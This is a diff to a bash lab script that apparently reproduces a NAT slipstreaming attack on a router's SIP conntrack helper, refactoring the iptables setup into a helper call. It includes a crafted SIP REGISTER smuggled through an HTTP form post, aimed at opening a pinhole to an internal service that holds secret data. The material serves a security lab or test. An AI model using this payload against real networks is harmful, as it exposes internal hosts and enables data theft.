@@ -1,12 +1,8 @@
 #!/bin/bash
 . "$(dirname "$0")/../../lab.sh"
-need iptables iptables
+. "$(dirname "$0")/../../kernel.sh"
 lab
-modprobe nf_conntrack_sip 2>/dev/null || true
-on router iptables -t raw -A PREROUTING -i lan -p tcp --dport 5060 -j CT --helper sip
-on router iptables -P FORWARD DROP
-on router iptables -A FORWARD -i lan -j ACCEPT
-on router iptables -A FORWARD -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT
+arm sip 5060 tcp
 spawn client python3 "$TOOLS/data_host.py" 5000 "what only the inside should see"
 # The attacker's server answers the form, and then what he takes out of it, in a segment of its own.
 spawn server python3 -c "
@@ -52,3 +48,4 @@ post /name 900 'REGISTER sip:e.example;transport=TCP SIP/2.0\r\nVia: SIP/2.0/TCP
 Contact: <sip:a@192.168.1.5:5000;transport=TCP>\r\nTo: <sip:a@e.example;transport=TCP>\r\nFrom: <sip:a@e.example;transport=TCP>;tag=1\r\n\
 Call-ID: abc\r\nCSeq: 1 REGISTER\r\nExpires: 60\r\nContent-Length: 0\r\n\r\n'
 come
+answer
